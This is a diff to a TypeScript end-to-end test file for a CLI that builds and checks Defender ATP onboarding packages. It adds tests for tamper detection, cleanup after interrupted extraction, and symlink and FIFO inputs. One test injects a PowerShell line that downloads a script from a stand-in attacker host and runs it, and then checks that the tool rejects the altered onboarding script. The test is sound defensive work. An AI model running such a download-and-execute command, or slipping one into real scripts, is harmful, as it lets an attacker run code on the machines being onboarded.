@@ -1,7 +1,7 @@
-import {execFileSync} from 'node:child_process'
-import {readdirSync, readFileSync, statSync, writeFileSync} from 'node:fs'
+import {execFileSync, spawn} from 'node:child_process'
+import {mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync} from 'node:fs'
 import {join} from 'node:path'
-import {runCli, tempHome} from '../helpers/cli.js'
+import {PROJECT_ROOT, runCli, tempHome} from '../helpers/cli.js'
 
 describe('e2e: packages (issue 3)', () => {
   const {home, cleanup} = tempHome('atpctl-e2e-pkg-')
@@ -50,5 +50,92 @@ describe('e2e: packages (issue 3)', () => {
     const bad = await runCli(['package', 'extract', evil, '--dir', join(home, 'evil-out')], {home})
     expect(bad.code).toBe(7)
     expect(readdirSync(home).filter((n) => n.startsWith('evil-out') || n.startsWith('.evil-out') || n === 'escape.txt')).toEqual([])
+  })
+
+  it('issue 15: a generated local script with an injected line, blob untouched, is exit 7 PACKAGE_TAMPERED naming the file and line', async () => {
+    const zip = join(home, 'local.zip')
+    expect((await runCli(['package', 'generate', 'onboarding', '--os', 'windows', '--method', 'local-script', '--out', zip], {home})).code).toBe(0)
+    expect((await runCli(['package', 'extract', zip, '--dir', join(home, 'local')], {home})).code).toBe(0)
+    const script = join(home, 'local', 'WindowsDefenderATPLocalOnboardingScript.cmd')
+    const lines = readFileSync(script, 'utf8').split('\r\n')
+    lines.splice(20, 0, 'powershell -NoProfile -Command "iwr https://evil.example.test/p.ps1 | iex"')
+    writeFileSync(script, lines.join('\r\n'))
+    const human = await runCli(['package', 'inspect', script], {home})
+    expect(human.code).toBe(7)
+    expect(human.stdout).toMatch(/SHA-1 signature:\s+valid/)
+    expect(human.stdout).toMatch(/Carrier layout:\s+ALTERED: WindowsDefenderATPLocalOnboardingScript\.cmd line 21/)
+    expect(human.stderr).toMatch(/^Error: .*'WindowsDefenderATPLocalOnboardingScript\.cmd' .*line 21 is not part of it/m)
+    expect(human.stderr).toMatch(/^Try this: /m)
+    expect(human.stdout + human.stderr).not.toMatch(/iex|evil\.example/)
+    const json = await runCli(['package', 'inspect', script, '--json'], {home})
+    expect(json.code).toBe(7)
+    expect(json.json().error).toMatchObject({code: 'PACKAGE_TAMPERED', exitCode: 7})
+  })
+
+  describe('extract interrupted (issue 15)', () => {
+    const BIN = join(PROJECT_ROOT, 'bin', 'run.js')
+    let work: string
+    let zip: string
+    beforeAll(() => {
+      work = mkdtempSync(join(home, 'intr-'))
+      zip = join(work, 'big.zip')
+      // 24 stored entries of 8 MiB: long enough to be caught mid-way, within the zip-bomb limits.
+      execFileSync('python3', ['-c', "import zipfile,sys\nwith zipfile.ZipFile(sys.argv[1],'w') as z:\n  for i in range(24): z.writestr('part%02d.bin' % i, bytes(8 << 20))", zip])
+    })
+
+    /** Starts an extraction and signals it once its temporary directory holds a file. */
+    async function interrupt(signal: NodeJS.Signals): Promise<{code: number | null; signal: NodeJS.Signals | null; stderr: string}> {
+      const child = spawn(process.execPath, [BIN, 'package', 'extract', zip, '--dir', join(work, 'out')], {
+        env: {PATH: process.env.PATH, HOME: home, ATPCTL_HOME: home, NO_COLOR: '1', CI: '1'},
+        stdio: ['ignore', 'ignore', 'pipe'],
+      })
+      let stderr = ''
+      child.stderr.on('data', (d) => (stderr += d))
+      const exited = new Promise<{code: number | null; signal: NodeJS.Signals | null}>((resolve) => child.on('close', (code, sig) => resolve({code, signal: sig})))
+      for (;;) {
+        if (child.exitCode !== null || child.signalCode !== null) throw new Error(`the extraction ended before it could be interrupted: ${stderr}`)
+        const temp = readdirSync(work).find((n) => n.startsWith('.out.extract-'))
+        if (temp && readdirSync(join(work, temp)).length > 0) break
+        await new Promise((r) => setTimeout(r, 5))
+      }
+
+      child.kill(signal)
+      return {...(await exited), stderr}
+    }
+
+    it('SIGTERM and SIGINT: the temporary directory is removed, nothing is left beside --dir', async () => {
+      for (const signal of ['SIGTERM', 'SIGINT'] as const) {
+        const r = await interrupt(signal)
+        expect(r.code).toBe(130)
+        expect(r.stderr).toMatch(/Cancelled/)
+        expect(readdirSync(work)).toEqual(['big.zip'])
+      }
+    })
+
+    it('SIGKILL leaves the temporary directory; the next extraction removes it and succeeds', async () => {
+      const r = await interrupt('SIGKILL')
+      expect(r.signal).toBe('SIGKILL')
+      expect(readdirSync(work).filter((n) => n.startsWith('.out.extract-'))).toHaveLength(1)
+      const again = await runCli(['package', 'extract', zip, '--dir', join(work, 'out'), '--json'], {home})
+      expect(again.code).toBe(0)
+      expect(again.json().files).toHaveLength(24)
+      expect(readdirSync(work).sort()).toEqual(['big.zip', 'out'])
+    })
+
+    it('a --dir that is a symbolic link and a FILE that is a directory or a FIFO: exit 2 with a hint, no hang', async () => {
+      mkdirSync(join(work, 'real'))
+      symlinkSync(join(work, 'real'), join(work, 'link'))
+      const link = await runCli(['package', 'extract', zip, '--dir', join(work, 'link')], {home})
+      expect(link.code).toBe(2)
+      expect(link.stderr).toMatch(/^Error: .*symbolic link/m)
+      expect(link.stderr).toMatch(/Try this:/)
+      execFileSync('mkfifo', [join(work, 'fifo.zip')])
+      for (const args of [['extract', join(work, 'fifo.zip'), '--dir', join(work, 'o')], ['inspect', join(work, 'fifo.zip')], ['inspect', work]]) {
+        const r = await runCli(['package', ...args], {home})
+        expect(r.code).toBe(2)
+        expect(r.stderr).toMatch(/^Error: .*(named pipe|a directory)/m)
+        expect(r.stderr).not.toMatch(/    at /)
+      }
+    })
   })
 })
